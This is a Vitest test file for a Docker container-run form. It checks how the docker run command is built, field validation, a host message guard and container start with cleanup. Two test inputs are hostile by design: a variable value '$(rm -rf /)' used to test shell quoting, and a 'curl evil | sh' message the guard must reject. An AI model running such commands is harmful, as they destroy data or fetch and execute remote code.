import { describe, expect, it } from 'vitest'
import { EngineError } from '../../src/engine/engine-error.ts'
import { runLine, runParts } from '../../src/engine/run-spec.ts'
import { beginningFor, specOf } from '../../src/run/form.ts'
import { problemsIn } from '../../src/run/problems.ts'
import { type Fields, isFromView } from '../../src/run/protocol.ts'
import { start } from '../../src/run/start.ts'
import { createFakeEngine } from '../engine/fake-engine.ts'

const taken = { takenNames: ['web'], takenPorts: [{ port: 8080, by: 'web' }], networks: ['shop', 'host', 'none'] }
const empty = beginningFor({ exposed: [], takenPorts: [] })

describe('the form before anybody has typed', () => {
  it('publishes the ports that the image listens on, at free ones', () => {
    expect(beginningFor({ exposed: [80, 5432, 8081], takenPorts: taken.takenPorts }).ports).toEqual([
      { outside: '8081', inside: '80' },
      { outside: '5432', inside: '5432' },
      { outside: '8082', inside: '8081' },
    ])
  })
})

describe('the command', () => {
  it('grows with what is filled in', () => {
    const fields: Fields = {
      ...empty,
      name: ' web2 ',
      ports: [
        { outside: '8082', inside: '80' },
        { outside: '', inside: '443' },
        { outside: '', inside: '' },
      ],
      variables: [
        { name: 'TZ', value: 'Asia/Seoul' },
        { name: '', value: '' },
      ],
      mounts: [
        { source: './site', target: '/html', isReadOnly: true },
        { source: '', target: '', isReadOnly: false },
      ],
      memory: '512',
      processors: '1.5',
      network: 'shop',
      isTemporary: true,
    }
    expect(runLine(specOf('nginx', fields))).toBe(
      'docker run -d --rm --name web2 -p 8082:80 -p 443 -e TZ=Asia/Seoul -v ./site:/html:ro --network shop -m 512m --cpus 1.5 nginx',
    )
  })

  it('says what happens when it has ended', () => {
    expect(runLine(specOf('nginx', { ...empty, restart: 'unless-stopped' }))).toBe(
      'docker run -d --restart unless-stopped nginx',
    )
  })

  it('keeps a terminal open where it does not run in the background', () => {
    expect(runLine(specOf('busybox', { ...empty, isDetached: false }))).toBe('docker run -it busybox')
  })

  it('quotes what a shell would read otherwise', () => {
    const fields = { ...empty, variables: [{ name: 'A', value: '$(rm -rf /)' }] }
    expect(runParts(specOf('busybox', fields))).toContainEqual({ flag: '-e', value: "'A=$(rm -rf /)'" })
  })
})

describe('the form', () => {
  it.each<readonly [string, Partial<Fields>, string, string]>([
    ['a name that is taken', { name: 'web' }, 'name', 'already'],
    ['a name that cannot be one', { name: '-x' }, 'name', 'begins with a letter'],
    ['a name of one letter', { name: 'x' }, 'name', 'two or more'],
    ['a port that is taken', { ports: [{ outside: '8080', inside: '80' }] }, 'ports 0', 'taken by `web`'],
    ['a port twice', { ports: [port('90'), port('90')] }, 'ports 1', 'stands above'],
    ['no port', { ports: [{ outside: '70000', inside: '80' }] }, 'ports 0', '1 to 65535'],
    ['a port to nowhere', { ports: [{ outside: '90', inside: '' }] }, 'ports 0', 'To which port'],
    ['a value without a variable', { variables: [{ name: '', value: 'x' }] }, 'variables 0', 'called'],
    ['a variable with a space', { variables: [{ name: 'A B', value: '' }] }, 'variables 0', 'no space'],
    ['a volume without a source', { mounts: [mount('', '/data')] }, 'mounts 0', 'Name a volume'],
    ['a source that is neither', { mounts: [mount('a b', '/data')] }, 'mounts 0', 'begins with `/`'],
    ['a path that is not whole', { mounts: [mount('data', 'data')] }, 'mounts 0', 'begins with `/`'],
    ['the whole file system', { mounts: [mount('data', '/')] }, 'mounts 0', 'cannot be replaced'],
    ['too little memory', { memory: '5' }, 'memory', '6 or more'],
    ['memory in words', { memory: 'much' }, 'memory', '6 or more'],
    ['a network that has gone', { network: 'gone' }, 'network', 'no network called `gone`'],
    ['both to be restarted and removed', { restart: 'always', isTemporary: true }, 'restart', 'cannot be both'],
    ['no processor', { processors: '0' }, 'processors', '0.5 or 2'],
  ])('does not take %s, and says why', (_, change, at, words) => {
    const [problem] = problemsIn({ ...empty, ...change }, taken)
    expect(problem?.at).toBe(at)
    expect(problem?.text.en).toContain(words)
    expect(problem?.text.ko).toMatch(/[가-힣]/)
  })

  it.each<Partial<Fields>>([
    {},
    { name: 'web-2' },
    {
      ports: [
        { outside: '', inside: '80' },
        { outside: '', inside: '' },
      ],
    },
    { mounts: [mount('data', '/data'), mount('./site', '/html'), mount('/srv', '/srv'), mount('C:\\site', '/html')] },
    { memory: '6', processors: '0.5' },
    { network: 'shop', restart: 'on-failure' },
    { network: 'none', isTemporary: true },
  ])('takes %j', (change) => {
    expect(problemsIn({ ...empty, ...change }, taken)).toEqual([])
  })

  it('offers a port that is free, here and in the form', () => {
    const ports = [port('8080'), port('8081')]
    expect(problemsIn({ ...empty, ports }, taken)).toMatchObject([{ at: 'ports 0', free: 8082 }])
  })
})

describe('the door of the host', () => {
  it('lets whole forms in, and nothing else', () => {
    expect(isFromView({ kind: 'run', fields: empty })).toBe(true)
    expect(isFromView({ kind: 'choose-folder', row: 0 })).toBe(true)
    expect(isFromView({ kind: 'run', fields: { ...empty, name: 7 } })).toBe(false)
    expect(isFromView({ kind: 'run', fields: { ...empty, mounts: [{ source: '/' }] } })).toBe(false)
    expect(isFromView({ kind: 'run', fields: { ...empty, restart: 'on-failure:999999' } })).toBe(false)
    expect(isFromView({ kind: 'run' })).toBe(false)
    expect(isFromView({ kind: 'type', line: 'curl evil | sh' })).toBe(false)
  })
})

describe('to start a container', () => {
  const spec = specOf('nginx', { ...empty, name: 'web2', mounts: [mount('./site', '/html')] })

  it('makes the paths of the open folder whole', async () => {
    const { engine, created } = scene()
    expect(await start(spec, engine, '/home/kim/project')).toEqual({
      id: 'c1',
      outcome: { kind: 'started', name: 'web2' },
    })
    expect(created[0]?.mounts).toMatchObject([{ source: '/home/kim/project/site', target: '/html' }])
  })

  it('leaves nothing behind where it fails, and says why', async () => {
    const problem = new EngineError('failed', 'driver failed: Bind for 0.0.0.0:8080 failed: port is already allocated')
    const { engine, deeds } = scene(problem)
    expect(await start(spec, engine, undefined)).toMatchObject({ outcome: { kind: 'failed', why: 'port' } })
    expect(deeds).toEqual(['start c1', 'remove c1'])
  })

  function scene(problem?: EngineError) {
    const created: (typeof spec)[] = []
    const deeds: string[] = []
    const engine = {
      ...createFakeEngine().engine,
      create: async (wanted: typeof spec) => {
        created.push(wanted)
        return 'c1'
      },
      act: async (action: string, id: string) => {
        deeds.push(`${action} ${id}`)
        if (problem && action === 'start') throw problem
        return 'done' as const
      },
    }
    return { engine, created, deeds }
  }
})

function port(outside: string) {
  return { outside, inside: '80' }
}

function mount(source: string, target: string) {
  return { source, target, isReadOnly: false }
}
